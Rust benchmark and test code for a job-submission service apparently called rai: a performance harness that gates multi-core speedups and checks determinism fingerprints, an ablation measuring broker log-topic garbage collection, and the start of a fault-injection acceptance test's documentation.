/// fingerprints and replica fingerprint vectors are byte-identical at
/// every width; returns the per-width walls.
fn scaling_sweep(seed: u64, reference_fp: u64) -> Vec<ScalingLevel> {
    let mut levels = Vec::new();
    let mut reference_replicas: Option<Vec<u64>> = None;
    for &width in &SCALING_LEVELS {
        let cfg = SemesterConfig::scaled(TEAMS, DAYS, seed).with_parallelism(width);
        let semester = timed(|| run_semester(&cfg));
        assert_eq!(
            semester.result.fingerprint(),
            reference_fp,
            "semester fingerprint diverged at parallelism {width}"
        );
        let fanout = replica_fanout(width, seed);
        match &reference_replicas {
            None => reference_replicas = Some(fanout.result.clone()),
            Some(reference) => assert_eq!(
                reference, &fanout.result,
                "replica fingerprints diverged at parallelism {width}"
            ),
        }
        levels.push(ScalingLevel {
            parallelism: width,
            semester_wall: semester.wall,
            fanout_wall: fanout.wall,
        });
    }
    levels
}

fn fanout_speedup_at_4(levels: &[ScalingLevel]) -> f64 {
    let wall_at = |p: usize| {
        levels
            .iter()
            .find(|l| l.parallelism == p)
            .expect("swept width")
            .fanout_wall
    };
    wall_at(1) / wall_at(4)
}

fn semester_speedup_at_4(levels: &[ScalingLevel]) -> f64 {
    let wall_at = |p: usize| {
        levels
            .iter()
            .find(|l| l.parallelism == p)
            .expect("swept width")
            .semester_wall
    };
    wall_at(1) / wall_at(4)
}

/// Enforce the replica fan-out floor — a real multi-core speedup gate,
/// armed only when the host has the cores to show one.
fn assert_fanout_floor(speedup: f64, cpus: usize) {
    if cpus >= 4 {
        assert!(
            speedup >= MIN_FANOUT_SPEEDUP,
            "replica fan-out speedup {speedup:.2}x at parallelism 4 below the \
             {MIN_FANOUT_SPEEDUP}x floor on a {cpus}-core host"
        );
    } else {
        println!(
            "  (fan-out floor dormant: host has {cpus} core(s), needs >= 4 to scale)"
        );
    }
}

/// Queue `LANE_JOBS` conflict-free jobs (distinct payloads, distinct
/// teams — no shared chunk digest, no shared ranking row) on a
/// fault-free system and time the `drive_until` drain. At `shards = 1`
/// every commit serializes in claim order; at `shards = 4` commits
/// spread across four lanes keyed by `job_id % 4` (DESIGN.md §16).
/// Returns (wall, outcome digest) — the digest must be identical at
/// every shard count.
fn lane_drain(shards: usize, seed: u64) -> Timed<u64> {
    use rai_core::{ProjectDir, RaiSystem, SubmitMode, SystemConfig};
    let mut system = RaiSystem::new(SystemConfig {
        workers: LANE_WORKERS,
        parallelism: 4,
        shards,
        rate_limit: None,
        seed,
        ..Default::default()
    });
    let teams: Vec<_> = (0..LANE_JOBS)
        .map(|i| system.register_team(&format!("lane-{i:02}"), &[]))
        .collect();
    for (i, creds) in teams.iter().enumerate() {
        let project = ProjectDir::cuda_project_with_perf(
            250.0 + i as f64 * 13.7,
            0.9,
            512 + i as u64,
        );
        system
            .client_for(creds)
            .begin_submit(&project, SubmitMode::Run)
            .expect("queue lane job");
    }
    timed(|| {
        let outcomes = system.drain();
        assert_eq!(outcomes.len(), LANE_JOBS, "every lane job terminated");
        let mut digest = 0xcbf29ce484222325u64;
        let mut fold = |v: u64| {
            digest ^= v;
            digest = digest.wrapping_mul(0x100000001b3);
        };
        for o in &outcomes {
            fold(o.job_id);
            fold(o.success as u64);
            fold(o.service_time.as_secs_f64().to_bits());
        }
        digest
    })
}

/// Enforce the commit-lane floor — the sharded scheduler's gate —
/// under the same >= 4-core arming rule as the other live floors.
fn assert_lane_floor(speedup: f64, cpus: usize) {
    if cpus >= 4 {
        assert!(
            speedup >= MIN_LANE_SPEEDUP,
            "commit-lane speedup {speedup:.2}x at shards 4 below the \
             {MIN_LANE_SPEEDUP}x floor on a {cpus}-core host"
        );
    } else {
        println!(
            "  (commit-lane floor dormant: host has {cpus} core(s), needs >= 4 to scale)"
        );
    }
}

/// Queue `CLAIM_JOBS` conflict-free jobs on a fault-free system and
/// time the `drive_until` drain with the claim tail — auth, build-spec
/// parse, image resolve, payload fetch + restore — on 1 vs
/// `claim_lanes` lanes keyed by a hash of each job's log topic
/// (DESIGN.md §17). The claim tail is the serial prefix of every
/// scheduling round, so fanning it out shortens the round's critical
/// path. Returns (wall, outcome digest) — the digest must be identical
/// at every lane count.
fn claim_drain(claim_lanes: usize, seed: u64) -> Timed<u64> {
    use rai_core::{ProjectDir, RaiSystem, SubmitMode, SystemConfig};
    let mut system = RaiSystem::new(SystemConfig {
        workers: CLAIM_WORKERS,
        parallelism: 4,
        claim_lanes,
        rate_limit: None,
        seed,
        ..Default::default()
    });
    let teams: Vec<_> = (0..CLAIM_JOBS)
        .map(|i| system.register_team(&format!("claim-{i:02}"), &[]))
        .collect();
    for (i, creds) in teams.iter().enumerate() {
        let project = ProjectDir::cuda_project_with_perf(
            275.0 + i as f64 * 11.3,
            0.9,
            768 + i as u64,
        );
        system
            .client_for(creds)
            .begin_submit(&project, SubmitMode::Run)
            .expect("queue claim job");
    }
    timed(|| {
        let outcomes = system.drain();
        assert_eq!(outcomes.len(), CLAIM_JOBS, "every claim job terminated");
        let mut digest = 0xcbf29ce484222325u64;
        let mut fold = |v: u64| {
            digest ^= v;
            digest = digest.wrapping_mul(0x100000001b3);
        };
        for o in &outcomes {
            fold(o.job_id);
            fold(o.success as u64);
            fold(o.service_time.as_secs_f64().to_bits());
        }
        digest
    })
}

/// Enforce the claim-lane floor — the parallel claim pipeline's gate —
/// under the same >= 4-core arming rule as the other live floors.
fn assert_claim_floor(speedup: f64, cpus: usize) {
    if cpus >= 4 {
        assert!(
            speedup >= MIN_CLAIM_SPEEDUP,
            "claim-lane speedup {speedup:.2}x at claim_lanes 4 below the \
             {MIN_CLAIM_SPEEDUP}x floor on a {cpus}-core host"
        );
    } else {
        println!(
            "  (claim-lane floor dormant: host has {cpus} core(s), needs >= 4 to scale)"
        );
    }
}

/// Enforce the single-run semester floor — the job-level scheduler's
/// gate — under the same arming rule.
fn assert_semester_floor(speedup: f64, cpus: usize) {
    if cpus >= 4 {
        assert!(
            speedup >= MIN_SEMESTER_SPEEDUP,
            "single-run semester speedup {speedup:.2}x at parallelism 4 below the \
             {MIN_SEMESTER_SPEEDUP}x job-level floor on a {cpus}-core host"
        );
    } else {
        println!(
            "  (semester floor dormant: host has {cpus} core(s), needs >= 4 to scale)"
        );
    }
}

// ----------------------------------------------------------------- json

struct Report {
    seed: u64,
    semester: Timed<SemesterResult>,
    reference_wall: f64,
    chaos: Timed<ChaosResult>,
    micro_indexed_wall: f64,
    micro_scan_wall: f64,
    chunker_mib_s: f64,
    lzss_mib_s: f64,
    fanout_msgs_s: f64,
    scaling: Vec<ScalingLevel>,
    host_cpus: usize,
    lane_wall_at_1: f64,
    lane_wall_at_4: f64,
    claim_wall_at_1: f64,
    claim_wall_at_4: f64,
}

fn render(r: &Report) -> String {
    let sem = &r.semester.result;
    let chaos = &r.chaos.result;
    let mut out = String::new();
    out.push_str("{\n");
    out.push_str("  \"schema\": \"rai-perf-bench/5\",\n");
    out.push_str(&format!("  \"seed\": {},\n", r.seed));
    out.push_str("  \"reference\": {\n");
    out.push_str(
        "    \"description\": \"same semester workload with db_hot_indexes=false (pre-overhaul full-scan planner)\",\n",
    );
    out.push_str(&format!(
        "    \"semester_wall_secs\": {:.4},\n",
        r.reference_wall
    ));
    out.push_str(&format!(
        "    \"speedup_vs_reference\": {:.2}\n",
        r.reference_wall / r.semester.wall
    ));
    out.push_str("  },\n");
    out.push_str("  \"semester\": {\n");
    out.push_str(&format!("    \"teams\": {TEAMS},\n"));
    out.push_str(&format!("    \"days\": {DAYS},\n"));
    out.push_str(&format!(
        "    \"submissions\": {},\n",
        sem.total_submissions
    ));
    out.push_str(&format!("    \"wall_secs\": {:.4},\n", r.semester.wall));
    out.push_str(&format!(
        "    \"throughput_sub_per_sec\": {:.1},\n",
        sem.total_submissions as f64 / r.semester.wall
    ));
    out.push_str(&format!(
        "    \"fingerprint\": \"{:#018x}\"\n",
        sem.fingerprint()
    ));
    out.push_str("  },\n");
    out.push_str("  \"chaos\": {\n");
    out.push_str(&format!("    \"accepted\": {},\n", chaos.accepted.len()));
    out.push_str("    \"audit\": \"pass\",\n");
    out.push_str(&format!("    \"wall_secs\": {:.4},\n", r.chaos.wall));
    out.push_str(&format!(
        "    \"throughput_sub_per_sec\": {:.1},\n",
        chaos.accepted.len() as f64 / r.chaos.wall
    ));
    out.push_str(&format!(
        "    \"fingerprint\": \"{:#018x}\"\n",
        chaos.fingerprint
    ));
    out.push_str("  },\n");
    out.push_str("  \"micro\": {\n");
    out.push_str(&format!(
        "    \"indexed_query_wall_secs\": {:.6},\n",
        r.micro_indexed_wall
    ));
    out.push_str(&format!(
        "    \"full_scan_wall_secs\": {:.6},\n",
        r.micro_scan_wall
    ));
    out.push_str(&format!(
        "    \"indexed_query_speedup\": {:.2},\n",
        r.micro_scan_wall / r.micro_indexed_wall
    ));
    out.push_str(&format!(
        "    \"chunker_mib_per_sec\": {:.0},\n",
        r.chunker_mib_s
    ));
    out.push_str(&format!(
        "    \"lzss_compress_mib_per_sec\": {:.0},\n",
        r.lzss_mib_s
    ));
    out.push_str(&format!(
        "    \"broker_fanout_msgs_per_sec\": {:.0}\n",
        r.fanout_msgs_s
    ));
    out.push_str("  },\n");
    out.push_str("  \"scaling\": {\n");
    out.push_str(&format!("    \"host_cpus\": {},\n", r.host_cpus));
    out.push_str(&format!("    \"replicas\": {REPLICAS},\n"));
    out.push_str(&format!(
        "    \"replica_scale\": \"{REPLICA_TEAMS} teams x {REPLICA_DAYS} days\",\n"
    ));
    out.push_str("    \"levels\": [\n");
    for (i, l) in r.scaling.iter().enumerate() {
        let sem = &r.semester.result;
        out.push_str(&format!(
            "      {{ \"parallelism\": {}, \"semester_wall_secs\": {:.4}, \"semester_throughput_sub_per_sec\": {:.1}, \"replica_fanout_wall_secs\": {:.4} }}{}\n",
            l.parallelism,
            l.semester_wall,
            sem.total_submissions as f64 / l.semester_wall,
            l.fanout_wall,
            if i + 1 < r.scaling.len() { "," } else { "" }
        ));
    }
    out.push_str("    ],\n");
    out.push_str(&format!(
        "    \"semester_speedup_at_4\": {:.2},\n",
        semester_speedup_at_4(&r.scaling)
    ));
    out.push_str(&format!(
        "    \"replica_fanout_speedup_at_4\": {:.2},\n",
        fanout_speedup_at_4(&r.scaling)
    ));
    out.push_str(&format!(
        "    \"floor\": \"semester_speedup_at_4 >= {MIN_SEMESTER_SPEEDUP} and replica_fanout_speedup_at_4 >= {MIN_FANOUT_SPEEDUP} enforced when host_cpus >= 4\",\n"
    ));
    out.push_str(
        "    \"note\": \"fingerprints are byte-identical at every width; the job-level scheduler executes independent submissions of a scheduling round concurrently between their serial claim/commit points (DESIGN.md 15), so the single-run semester scales with width and the replica fan-out is the embarrassingly parallel ceiling\"\n",
    );
    out.push_str("  },\n");
    out.push_str("  \"sharding\": {\n");
    out.push_str(&format!("    \"lane_jobs\": {LANE_JOBS},\n"));
    out.push_str(&format!("    \"lane_workers\": {LANE_WORKERS},\n"));
    out.push_str(&format!(
        "    \"commit_lane_wall_secs_at_1\": {:.4},\n",
        r.lane_wall_at_1
    ));
    out.push_str(&format!(
        "    \"commit_lane_wall_secs_at_4\": {:.4},\n",
        r.lane_wall_at_4
    ));
    out.push_str(&format!(
        "    \"commit_lane_speedup_at_4\": {:.2},\n",
        r.lane_wall_at_1 / r.lane_wall_at_4
    ));
    out.push_str(&format!(
        "    \"floor\": \"commit_lane_speedup_at_4 >= {MIN_LANE_SPEEDUP} enforced when host_cpus >= 4\",\n"
    ));
    out.push_str(
        "    \"note\": \"shard assignment is a pure function of digest/key/job id (DESIGN.md 16): outcome digests, semester fingerprints, and recovery audits are byte-identical at every shard count, while conflict-free commits of a round spread across shards lanes\"\n",
    );
    out.push_str("  },\n");
    out.push_str("  \"claiming\": {\n");
    out.push_str(&format!("    \"claim_jobs\": {CLAIM_JOBS},\n"));
    out.push_str(&format!("    \"claim_workers\": {CLAIM_WORKERS},\n"));
    out.push_str(&format!(
        "    \"claim_wall_secs_at_1\": {:.4},\n",
        r.claim_wall_at_1
    ));
    out.push_str(&format!(
        "    \"claim_wall_secs_at_4\": {:.4},\n",
        r.claim_wall_at_4
    ));
    out.push_str(&format!(
        "    \"claim_speedup_at_4\": {:.2},\n",
        r.claim_wall_at_1 / r.claim_wall_at_4
    ));
    out.push_str(&format!(
        "    \"floor\": \"claim_speedup_at_4 >= {MIN_CLAIM_SPEEDUP} enforced when host_cpus >= 4\",\n"
    ));
    out.push_str(
        "    \"note\": \"the pop half of a claim stays serial and order-defining while the claim tails (auth snapshot, spec parse, image resolve, payload fetch) fan across lanes keyed by a hash of the job's log topic and re-sort into pop order (DESIGN.md 17): outcome digests and semester fingerprints are byte-identical at every claim-lane count\"\n",
    );
    out.push_str("  }\n");
    out.push_str("}\n");
    out
}

/// Pull `"key": value` out of the named top-level section of the
/// committed report (the file is our own hand-rendered format, so a
/// positional scan is exact).
fn extract<'a>(json: &'a str, section: &str, key: &str) -> &'a str {
    let sec = json
        .find(&format!("\"{section}\""))
        .unwrap_or_else(|| panic!("BENCH_perf.json: no \"{section}\" section"));
    let rest = &json[sec..];
    let k = rest
        .find(&format!("\"{key}\""))
        .unwrap_or_else(|| panic!("BENCH_perf.json: no \"{key}\" in \"{section}\""));
    let after = &rest[k..];
    let colon = after.find(':').expect("key has a value");
    after[colon + 1..]
        .split([',', '\n', '}'])
        .next()
        .expect("value before delimiter")
        .trim()
        .trim_matches('"')
}

// ----------------------------------------------------------------- main

fn check(seed: u64, parallelism: usize, shards: usize, claim_lanes: usize) {
    let committed =
        std::fs::read_to_string("BENCH_perf.json").expect("read committed BENCH_perf.json");
    let schema = extract(&committed, "schema", "schema");
    assert_eq!(schema, "rai-perf-bench/5", "unexpected schema");
    let committed_sem_fp = extract(&committed, "semester", "fingerprint").to_string();
    let committed_chaos_fp = extract(&committed, "chaos", "fingerprint").to_string();
    let committed_wall: f64 = extract(&committed, "semester", "wall_secs")
        .parse()
        .expect("semester wall_secs is a number");
    // The scaling section must be present and well-formed; the
    // committed speedup only gates when the *recording* machine had
    // the cores to show one.
    let committed_cpus: usize = extract(&committed, "scaling", "host_cpus")
        .parse()
        .expect("scaling host_cpus is a number");
    let committed_fanout: f64 = extract(&committed, "scaling", "replica_fanout_speedup_at_4")
        .parse()
        .expect("scaling replica_fanout_speedup_at_4 is a number");
    let committed_semester_speedup: f64 = extract(&committed, "scaling", "semester_speedup_at_4")
        .parse()
        .expect("scaling semester_speedup_at_4 is a number");
    let committed_lane_speedup: f64 = extract(&committed, "sharding", "commit_lane_speedup_at_4")
        .parse()
        .expect("sharding commit_lane_speedup_at_4 is a number");
    let committed_claim_speedup: f64 = extract(&committed, "claiming", "claim_speedup_at_4")
        .parse()
        .expect("claiming claim_speedup_at_4 is a number");
    if committed_cpus >= 4 {
        assert!(
            committed_lane_speedup >= MIN_LANE_SPEEDUP,
            "committed commit-lane speedup {committed_lane_speedup:.2}x below the \
             {MIN_LANE_SPEEDUP}x floor (recorded on a {committed_cpus}-core host)"
        );
        assert!(
            committed_claim_speedup >= MIN_CLAIM_SPEEDUP,
            "committed claim-lane speedup {committed_claim_speedup:.2}x below the \
             {MIN_CLAIM_SPEEDUP}x floor (recorded on a {committed_cpus}-core host)"
        );
        assert!(
            committed_fanout >= MIN_FANOUT_SPEEDUP,
            "committed replica fan-out speedup {committed_fanout:.2}x below the \
             {MIN_FANOUT_SPEEDUP}x floor (recorded on a {committed_cpus}-core host)"
        );
        assert!(
            committed_semester_speedup >= MIN_SEMESTER_SPEEDUP,
            "committed single-run semester speedup {committed_semester_speedup:.2}x below the \
             {MIN_SEMESTER_SPEEDUP}x job-level floor (recorded on a {committed_cpus}-core host)"
        );
    }

    // Wall-clock is noisy (cold caches, co-tenant load): one warmup
    // run primes the allocator and page cache, then the gate reads the
    // *median* of three timed runs — robust to a single co-tenant
    // spike in either direction, where the old best-of-3 systematically
    // under-reported steady-state cost. Fingerprints are exact and
    // must match on every run, warmup included — the committed values
    // were recorded at width 1 / shards 1 / lanes 1, so re-running at
    // the requested configuration is the cross-config determinism gate.
    let run_semester_once = || {
        timed(|| {
            run_semester(
                &SemesterConfig::scaled(TEAMS, DAYS, seed)
                    .with_parallelism(parallelism)
                    .with_shards(shards)
                    .with_claim_lanes(claim_lanes),
            )
        })
    };
    let assert_sem_fp = |semester: &Timed<SemesterResult>| {
        let sem_fp = format!("{:#018x}", semester.result.fingerprint());
        assert_eq!(
            sem_fp, committed_sem_fp,
            "semester fingerprint at parallelism {parallelism} shards {shards} claim_lanes {claim_lanes} drifted from the committed baseline"
        );
    };
    let warmup = run_semester_once();
    assert_sem_fp(&warmup);
    let mut walls = Vec::with_capacity(3);
    for _ in 0..3 {
        let semester = run_semester_once();
        assert_sem_fp(&semester);
        walls.push(semester.wall);
    }
    walls.sort_by(f64::total_cmp);
    let median_wall = walls[1];
    let chaos = timed(|| {
        run_chaos(
            &ChaosConfig::acceptance(seed)
                .with_parallelism(parallelism)
                .with_shards(shards)
                .with_claim_lanes(claim_lanes),
        )
    });
    chaos.result.verify().expect("chaos audit");
    let chaos_fp = format!("{:#018x}", chaos.result.fingerprint);
    assert_eq!(
        chaos_fp, committed_chaos_fp,
        "chaos fingerprint at parallelism {parallelism} shards {shards} claim_lanes {claim_lanes} drifted from the committed baseline"
    );
    // The drift band gates the reference configuration only: at width
    // > 1 an under-provisioned host pays pool-parking overhead that
    // says nothing about a code regression (the width-1 CI job already
    // guards the wall; this job guards fingerprints and the floor).
    if parallelism == 1 && shards == 1 && claim_lanes == 1 {
        assert!(
            median_wall <= committed_wall * MAX_WALL_DRIFT,
            "semester wall {median_wall:.3}s (median of 3 after warmup) regressed more than {:.0}% over committed {committed_wall:.3}s",
            (MAX_WALL_DRIFT - 1.0) * 100.0,
        );
    }

    // Live scaling floors: when asked to check a multi-core width on a
    // multi-core host, the speedups must still be there — not just in
    // the committed file.
    if parallelism >= 4 {
        let cpus = host_cpus();
        // Job-level floor: the same single semester, width 1 vs 4.
        let seq_sem =
            timed(|| run_semester(&SemesterConfig::scaled(TEAMS, DAYS, seed)));
        let par_sem = timed(|| {
            run_semester(&SemesterConfig::scaled(TEAMS, DAYS, seed).with_parallelism(4))
        });
        assert_eq!(
            seq_sem.result.fingerprint(),
            par_sem.result.fingerprint(),
            "semester fingerprints diverged between widths 1 and 4"
        );
        let sem_speedup = seq_sem.wall / par_sem.wall;
        println!(
            "perf check: single-run semester {:.3}s -> {:.3}s ({sem_speedup:.2}x) on {cpus} core(s)",
            seq_sem.wall, par_sem.wall
        );
        assert_semester_floor(sem_speedup, cpus);
        let sequential = replica_fanout(1, seed);
        let pooled = replica_fanout(4, seed);
        assert_eq!(
            sequential.result, pooled.result,
            "replica fingerprints diverged between widths 1 and 4"
        );
        let speedup = sequential.wall / pooled.wall;
        println!(
            "perf check: replica fan-out {:.3}s -> {:.3}s ({speedup:.2}x) on {cpus} core(s)",
            sequential.wall, pooled.wall
        );
        assert_fanout_floor(speedup, cpus);
    }

    // Live commit-lane gate: the sharded drain must reproduce the
    // single-lock outcome digest exactly, and on a multi-core host the
    // lane speedup must clear its floor.
    if shards >= 4 {
        let cpus = host_cpus();
        let single = lane_drain(1, seed);
        let sharded = lane_drain(4, seed);
        assert_eq!(
            single.result, sharded.result,
            "lane-drain outcome digests diverged between shards 1 and 4"
        );
        let lane_speedup = single.wall / sharded.wall;
        println!(
            "perf check: commit-lane drain {:.3}s -> {:.3}s ({lane_speedup:.2}x) on {cpus} core(s)",
            single.wall, sharded.wall
        );
        assert_lane_floor(lane_speedup, cpus);
    }

    // Live claim-lane gate: the fanned-out claim tail must reproduce
    // the serial outcome digest exactly, and on a multi-core host the
    // claim speedup must clear its floor.
    if claim_lanes >= 4 {
        let cpus = host_cpus();
        let serial = claim_drain(1, seed);
        let laned = claim_drain(4, seed);
        assert_eq!(
            serial.result, laned.result,
            "claim-drain outcome digests diverged between claim lanes 1 and 4"
        );
        let claim_speedup = serial.wall / laned.wall;
        println!(
            "perf check: claim drain {:.3}s -> {:.3}s ({claim_speedup:.2}x) on {cpus} core(s)",
            serial.wall, laned.wall
        );
        assert_claim_floor(claim_speedup, cpus);
    }

    if parallelism == 1 && shards == 1 && claim_lanes == 1 {
        println!(
            "perf check: fingerprints match ({committed_sem_fp} / {chaos_fp}) at parallelism 1, wall {median_wall:.3}s (median of 3) within {:.0}% of committed {committed_wall:.3}s",
            (MAX_WALL_DRIFT - 1.0) * 100.0,
        );
    } else {
        println!(
            "perf check: fingerprints match ({committed_sem_fp} / {chaos_fp}) at parallelism {parallelism} shards {shards} claim_lanes {claim_lanes}, wall {median_wall:.3}s (committed {committed_wall:.3}s, drift gated by the width-1 job)"
        );
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let check_mode = args.iter().any(|a| a == "--check");
    let parallelism: usize = args
        .iter()
        .position(|a| a == "--parallelism")
        .and_then(|i| args.get(i + 1))
        .map(|v| v.parse().expect("--parallelism takes a positive integer"))
        .unwrap_or(1);
    let shards: usize = args
        .iter()
        .position(|a| a == "--shards")
        .and_then(|i| args.get(i + 1))
        .map(|v| v.parse().expect("--shards takes a positive integer"))
        .unwrap_or(1);
    let claim_lanes: usize = args
        .iter()
        .position(|a| a == "--claim-lanes")
        .and_then(|i| args.get(i + 1))
        .map(|v| v.parse().expect("--claim-lanes takes a positive integer"))
        .unwrap_or(1);
    let seed: u64 = args
        .iter()
        .enumerate()
        .filter(|(i, _)| {
            // Skip the --parallelism/--shards/--claim-lanes values; any
            // other bare integer is the seed.
            args.get(i.wrapping_sub(1)).is_none_or(|prev| {
                prev != "--parallelism" && prev != "--shards" && prev != "--claim-lanes"
            })
        })
        .find_map(|(_, a)| a.parse().ok())
        .unwrap_or(2016);

    if check_mode {
        check(seed, parallelism, shards, claim_lanes);
        return;
    }

    rai_bench::header(&format!("hot-path perf baseline — seed {seed}"));

    let (micro_indexed_wall, micro_scan_wall) = indexed_query_micro();
    let micro_speedup = micro_scan_wall / micro_indexed_wall;
    println!(
        "  indexed-query micro         {micro_speedup:.1}x (indexed {:.2}ms vs scan {:.2}ms)",
        micro_indexed_wall * 1e3,
        micro_scan_wall * 1e3
    );

    let config = SemesterConfig::scaled(TEAMS, DAYS, seed);
    let semester = timed(|| run_semester(&config));
    let mut legacy_config = SemesterConfig::scaled(TEAMS, DAYS, seed);
    legacy_config.db_hot_indexes = false;
    let reference = timed(|| run_semester(&legacy_config));
    let e2e_speedup = reference.wall / semester.wall;
    println!(
        "  semester ({TEAMS} teams x {DAYS} days, {} submissions)",
        semester.result.total_submissions
    );
    println!(
        "    wall                      {:.3}s ({:.0} sub/s)",
        semester.wall,
        semester.result.total_submissions as f64 / semester.wall
    );
    println!("    reference (no indexes)    {:.3}s", reference.wall);
    println!("    speedup                   {e2e_speedup:.2}x");
    println!(
        "    fingerprint               {:#018x}",
        semester.result.fingerprint()
    );

    let chaos = timed(|| run_chaos(&ChaosConfig::acceptance(seed)));
    chaos.result.verify().expect("chaos audit");
    println!(
        "  chaos ({} accepted, audit pass)",
        chaos.result.accepted.len()
    );
    println!(
        "    wall                      {:.3}s ({:.0} sub/s)",
        chaos.wall,
        chaos.result.accepted.len() as f64 / chaos.wall
    );
    println!(
        "    fingerprint               {:#018x}",
        chaos.result.fingerprint
    );

    let chunker_mib_s = chunker_micro();
    let lzss_mib_s = lzss_micro();
    let fanout_msgs_s = broker_fanout_micro();
    println!("  chunker                     {chunker_mib_s:.0} MiB/s");
    println!("  lzss compress               {lzss_mib_s:.0} MiB/s");
    println!("  broker fan-out (16ch)       {fanout_msgs_s:.0} msg/s");

    let cpus = host_cpus();
    let scaling = scaling_sweep(seed, semester.result.fingerprint());
    println!("  scaling ({cpus} host core(s), {REPLICAS} replicas of {REPLICA_TEAMS} teams x {REPLICA_DAYS} days)");
    for l in &scaling {
        println!(
            "    parallelism {}: semester {:.3}s, replica fan-out {:.3}s",
            l.parallelism, l.semester_wall, l.fanout_wall
        );
    }
    let sem_speedup = semester_speedup_at_4(&scaling);
    println!("    semester speedup          {sem_speedup:.2}x at parallelism 4");
    assert_semester_floor(sem_speedup, cpus);
    let fanout_speedup = fanout_speedup_at_4(&scaling);
    println!("    replica fan-out speedup   {fanout_speedup:.2}x at parallelism 4");
    assert_fanout_floor(fanout_speedup, cpus);

    // Sharded commit lanes (DESIGN.md §16): the conflict-free drain at
    // 1 vs 4 lock shards, plus the semester fingerprint gate at 4.
    let lane_single = lane_drain(1, seed);
    let lane_sharded = lane_drain(4, seed);
    assert_eq!(
        lane_single.result, lane_sharded.result,
        "lane-drain outcome digests diverged between shards 1 and 4"
    );
    let lane_speedup = lane_single.wall / lane_sharded.wall;
    println!(
        "  commit lanes ({LANE_JOBS} jobs, {LANE_WORKERS} workers): {:.3}s -> {:.3}s ({lane_speedup:.2}x at shards 4)",
        lane_single.wall, lane_sharded.wall
    );
    assert_lane_floor(lane_speedup, cpus);
    let sharded_semester = run_semester(&config.clone().with_shards(4));
    assert_eq!(
        sharded_semester.fingerprint(),
        semester.result.fingerprint(),
        "semester fingerprint diverged at shards 4"
    );

    // Claim lanes (DESIGN.md §17): the conflict-free drain with the
    // claim tail on 1 vs 4 lanes, plus the semester fingerprint gate
    // at claim_lanes 4.
    let claim_serial = claim_drain(1, seed);
    let claim_laned = claim_drain(4, seed);
    assert_eq!(
        claim_serial.result, claim_laned.result,
        "claim-drain outcome digests diverged between claim lanes 1 and 4"
    );
    let claim_speedup = claim_serial.wall / claim_laned.wall;
    println!(
        "  claim lanes ({CLAIM_JOBS} jobs, {CLAIM_WORKERS} workers): {:.3}s -> {:.3}s ({claim_speedup:.2}x at claim_lanes 4)",
        claim_serial.wall, claim_laned.wall
    );
    assert_claim_floor(claim_speedup, cpus);
    let laned_semester = run_semester(&config.clone().with_claim_lanes(4));
    assert_eq!(
        laned_semester.fingerprint(),
        semester.result.fingerprint(),
        "semester fingerprint diverged at claim_lanes 4"
    );

    // The observational-purity gate: the planner, broker, chunker, and
    // store optimisations must not change a single observable byte.
    assert_eq!(
        semester.result.fingerprint(),
        reference.result.fingerprint(),
        "optimised and reference semester runs diverged — the overhaul is not observationally pure"
    );
    assert!(
        micro_speedup >= MIN_MICRO_SPEEDUP,
        "indexed-query micro speedup {micro_speedup:.2}x below the {MIN_MICRO_SPEEDUP}x floor"
    );
    assert!(
        e2e_speedup >= MIN_E2E_SPEEDUP,
        "end-to-end semester speedup {e2e_speedup:.2}x below the {MIN_E2E_SPEEDUP}x floor"
    );

    let report = Report {
        seed,
        semester,
        reference_wall: reference.wall,
        chaos,
        micro_indexed_wall,
        micro_scan_wall,
        chunker_mib_s,
        lzss_mib_s,
        fanout_msgs_s,
        scaling,
        host_cpus: cpus,
        lane_wall_at_1: lane_single.wall,
        lane_wall_at_4: lane_sharded.wall,
        claim_wall_at_1: claim_serial.wall,
        claim_wall_at_4: claim_laned.wall,
    };
    std::fs::write("BENCH_perf.json", render(&report)).expect("write BENCH_perf.json");
    println!(
        "\nwrote BENCH_perf.json (e2e {e2e_speedup:.2}x >= {MIN_E2E_SPEEDUP}x, micro {micro_speedup:.1}x >= {MIN_MICRO_SPEEDUP}x)"
    );
}
