//! Ablation for the **ephemeral log-topic design** (§V): "both the
//! topic and channel are deleted if there are no producers and
//! consumers."
//!
//! Without that garbage collection every job leaks a `log_${job_id}`
//! topic (plus its undelivered backlog); over tens of thousands of
//! submissions the broker's topic table grows without bound. This
//! binary runs the same job stream with and without subscribers
//! draining the log topics and reports broker growth.
//!
//! ```text
//! cargo run --release -p rai-bench --bin ablation_log_gc
//! ```

use rai_broker::Broker;
use rai_core::protocol::routes;

const JOBS: u64 = 20_000;
const LOG_LINES: usize = 12;

fn run(drain: bool) -> (usize, usize) {
    let broker = Broker::default();
    for job_id in 0..JOBS {
        let topic = routes::log_topic(job_id);
        // The GC'd path subscribes first (as the real client does) and
        // drops the subscription after End; the leaky path never
        // subscribes, emulating a worker publishing logs for a client
        // that vanished, with no producer/consumer-based deletion.
        let sub = drain.then(|| broker.subscribe_ephemeral(&topic, routes::LOG_CHANNEL));
        for line in 0..LOG_LINES {
            broker
                .publish_ephemeral(&topic, format!("out line {line}"))
                .expect("publish");
        }
        broker
            .publish_ephemeral(&topic, "end ok")
            .expect("publish");
        if let Some(sub) = sub {
            while let Some(m) = sub.try_recv() {
                sub.ack(m.id);
            }
            drop(sub); // ephemeral topic GC'd here
        }
    }
    let stats = broker.stats();
    (stats.topics, stats.depth)
}

fn main() {
    rai_bench::header("ephemeral log-topic GC vs unbounded topic table");
    let (gc_topics, gc_depth) = run(true);
    let (leak_topics, leak_depth) = run(false);
    println!("  {:<28} {:>10} {:>16}", "policy", "topics", "retained msgs");
    println!("  {:<28} {:>10} {:>16}", "GC on last unsubscribe", gc_topics, gc_depth);
    println!("  {:<28} {:>10} {:>16}", "no GC (leak)", leak_topics, leak_depth);

    rai_bench::header("paper vs measured");
    println!(
        "  after {JOBS} jobs the GC'd broker holds {gc_topics} topics; without deletion it holds {leak_topics} \
         topics and {leak_depth} undeliverable messages"
    );
    assert_eq!(gc_topics, 0, "all ephemeral topics must be collected");
    assert_eq!(leak_topics as u64, JOBS, "every job leaks one topic without GC");
}
