//! The **chaos acceptance run**: a fault-injected semester proving the
//! no-lost-submissions guarantee.
//!
//! Runs the chaos scenario (≥5% worker crash rate, ≥2% store/db fault
//! rate, broker publish rejections, poison jobs, one instance death
//! mid-run) on fixed seeds and asserts, per seed:
//!
//! 1. every accepted submission reaches a terminal state exactly once
//!    in the database (or leaves via the dead-letter topic);
//! 2. nothing is double-counted and nothing is lost;
//! 3. a same-seed re-run is byte-identical (fingerprint equality);
//! 4. a re-run with the payload pipeline on a 4-worker `rai-exec`
//!    pool is byte-identical too (width invariance);
